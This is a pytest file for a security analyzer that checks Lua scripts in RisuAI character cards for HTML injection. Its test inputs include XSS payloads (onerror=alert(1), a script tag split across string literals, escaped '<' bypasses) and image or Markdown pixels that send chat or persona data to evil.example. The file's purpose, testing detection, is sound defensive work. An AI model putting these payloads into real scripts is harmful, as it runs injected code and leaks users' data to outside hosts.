"""Findings of the tenth pass on the HTML a Lua script writes in its strings (what an
``editDisplay`` listener returns, what ``addChat``/``setChat`` put in a message), each a
test that fails before its fix (``analysis/luahtml.py``, ``luafold.template_span``):

* a handler written after a value joined into a string (``"<img src=\\"" .. img ..
  "\\" onerror=\\"alert(1)\\">"``), a tag split over literals (``"<scr".."ipt>"``,
  ``"<img src=x " .. "onerror=...>"``, ``table.concat({...})``) gave nothing: only the
  literal holding a tag was read, what came after a value never.  A concatenation chain
  is now read as one text, each value a hole (as a CBS variable);
* a tag whose attributes sit on several lines of a long string was missed by the
  pre-filter (it looked at the tag's line and the next only);
* an escaped ``<`` (``"\\x3cimg ..."``, ``"\\60img ..."``) was missed by the pre-filter,
  which searched the code before decoding;
* ``string.format("<img src=\\"https://h/?q=%s\\">", data)``, ``("..."):format(data)`` and
  ``T:gsub("%$Q", data)`` gave no RA305: ``%s`` and the replacement are values now;
* an address built in a local (``local u = "https://h/?q=" .. data``) then placed in
  ``src``, and a constant holding the tag's head (``PIXEL .. data``) gave no RA305: a
  name's template (as a request's address) and a constant's uses are read;
* a Markdown image in a Lua string with chat data (``"![](https://h/p.png?d=" ..
  getPersonaName(id) .. ")"``) gave nothing, though RisuAI renders a message's Markdown.
"""

from __future__ import annotations

import time

import pytest
from analysis_support import lua

from risutools.analysis.luaargs import HOLE, LIT, REF
from risutools.analysis.luafold import template_of
from risutools.analysis.luahtml import html_strings, may_hold_html

_ON = "function onOutput(id)\n  "
_EDIT = 'listenEdit("editDisplay", function(id, data)\n  return data .. '


def _rules(code: str) -> dict[str, str]:
    return {f["rule"]: f["evidence"] for f in lua(code).to_dict()["findings"]
            if f["rule"].startswith("RA3")}


@pytest.mark.parametrize("code, rule, line", [
    (_ON + 'local img = getChatVar(id, "portrait")\n  addChat(id, "char", "<img src=\\"" .. img'
     ' .. "\\" onerror=\\"alert(1)\\">")\nend', "RA302", 3),
    (_ON + 'addChat(id, "char", "<img src=x " .. "onerror=alert(1)>")\nend', "RA302", 2),
    (_ON + 'addChat(id, "char", "<scr".."ipt>alert(1)</script>")\nend', "RA301", 2),
    (_ON + 'addChat(id, "char", table.concat({"<img src=x ", "onerror=alert(1)>"}))\nend',
     "RA302", 2),
    (_ON + 'local v = getChatVar(id, "p")\n  addChat(id, "char", table.concat({"<img src=\\"", v,'
     ' "\\" onerror=\\"f()\\">"}))\nend', "RA302", 3),
    (_EDIT + '[[\n<img\n  src="portrait.png"\n  class="portrait"\n  onerror="alert(1)">\n]]\nend)',
     "RA302", 3),
    (_EDIT + '"\\x3cimg src=x onerror=alert(1)>"\nend)', "RA302", 2),
    (_EDIT + '"\\60img src=x onerror=alert(1)>"\nend)', "RA302", 2),
    (_EDIT + 'string.format("<img src=\\"https://evil.example/p.gif?q=%s\\">", data)\nend)',
     "RA305", 2),
    (_EDIT + '("<img src=\\"https://evil.example/p.gif?q=%s\\">"):format(data)\nend)', "RA305", 2),
    ('local T = "<img src=\\"https://evil.example/p.gif?q=$Q\\">"\n' + _EDIT
     + 'T:gsub("%$Q", data)\nend)', "RA305", 3),
    ('listenEdit("editDisplay", function(id, data)\n  local u = "https://evil.example/p.gif?q="'
     ' .. data\n  return data .. "<img src=\\"" .. u .. "\\">"\nend)', "RA305", 3),
    ('local PIXEL = "<img src=\\"https://evil.example/p.gif?m="\n' + _EDIT
     + 'PIXEL .. data .. "\\">"\nend)', "RA305", 3),
    (_EDIT + '"\\n![](https://evil.example/p.png?d=" .. getPersonaName(id) .. ")"\nend)',
     "RA305", 0),  # (its line: the text's second, the escaped line break counted)
    (_ON + 'addChat(id, "char", "![](https://evil.example/p.png?d=" .. getPersonaName(id) .. ")")'
     '\nend', "RA305", 2),
])
def test_html_a_lua_script_builds_is_read(code: str, rule: str, line: int) -> None:
    got = _rules(code)
    assert rule in got and (not line or got[rule] == f"trigger[0].effect[0] line {line}"), got


@pytest.mark.parametrize("code", [
    # the value alone where an address is expected (a CBS variable alone: no leak)
    'local function img(u) return "<img src=\'" .. u .. "\'>" end\nfunction onOutput(id) '
    'addChat(id, "char", img(getChatVar(id, "avatar"))) end',
    # a fixed address joined to a value outside the tag
    _ON + 'addChat(id, "char", "<img src=\'https://cdn.example/a.png\'>" .. getChatVar(id, "x"))'
    '\nend',
    # a request's address is not shown text
    _ON + 'request(id, "https://evil.example/?q=" .. getChatVar(id, "x"))\nend',
])
def test_html_a_lua_script_builds_without_script_or_data_is_quiet(code: str) -> None:
    assert not _rules(code)


@pytest.mark.parametrize("code, may", [
    ('x = [[\n<img\n  src="a.png"\n  class="a"\n  onerror="f()">\n]]', True),
    ('x = "\\x3cimg src=x onerror=f()>"', True),
    ('x = "\\60img src=x onerror=f()>"', True),
    ('x = "<scr" .. "ipt>"', True),
    ('x = "<img src=\\"" .. u .. "\\">"\nlocal u = "https://h.example/?q=" .. q', True),
    ('x = "![](" .. u .. ")"\nlocal u = "https://h.example/?q=" .. q', True),
    # a control escape, a name after ``..`` before a tag, an ellipsis in a tag: none
    ('w = "https://h.example/"\n\nx = string.find(v, "[%z\\1-\\31\\127]")\ny = path .. '
     '".<key>"\nz = "<b title=\\"...\\">"', False),
])
def test_the_pre_filter_sees_what_the_reader_reads(code: str, may: bool) -> None:
    assert may_hold_html(code) is may


def test_template_of_reads_gsub_concat_and_a_constants_format() -> None:
    consts = {"T": "<b>$Q</b>", "F": "<i>%s</i>"}
    assert template_of('T:gsub("%$Q", x)', 0, consts) == ((LIT, "<b>"), (HOLE, ""),
                                                          (LIT, "</b>"))
    assert template_of('F:format(x)', 0, consts) == ((LIT, "<i>"), (REF, "x"), (LIT, "</i>"))
    assert template_of('string.gsub("a.b", "%.", "-")', 0, {}) == ((LIT, "a-b"),)
    assert template_of('("a-b"):gsub("%w", "x") .. y', 0, {}) is None  # (a class: a hole)
    assert template_of('table.concat({"a", x, "b"}, "-")', 0, {}) == (
        (LIT, "a-"), (REF, "x"), (LIT, "-b"))
    assert template_of('table.concat({k = "a"})', 0, {}) is None


def _cost(text: str) -> float:
    best = float("inf")
    for _ in range(3):
        t = time.perf_counter()
        may_hold_html(text)
        sum(1 for _ in html_strings(text))
        best = min(best, time.perf_counter() - t)
    return best


_HEAD = 'local T = "<img src=\\"https://h.example/?q="\n'


@pytest.mark.parametrize("head, unit", [
    (_HEAD, "<a "),  # openings and no ``>``: each tag's extent up to one far ``>``
    (_HEAD, 'x = "<b>" .. y .. "<i " .. z\n'),  # chains
    (_HEAD, "x = T .. y\n"),  # uses of a constant holding a tag
    (_HEAD, 'x = "<a " ..\n'),  # a chain too long to read: its strings one by one
    # values joined inside tags and no mark anywhere (the code searched for one once)
    ("", "local a = '<b risu-btn=\"go;' .. x .. '\">' .. string.format('<i f=\"F%s\">', y)\n"),
])
def test_the_reader_is_linear(head: str, unit: str) -> None:
    small = _cost(head + unit * 1_000 + ">")
    large = _cost(head + unit * 4_000 + ">")
    assert large < 4 * small * 2.5 + 0.05, (small, large)
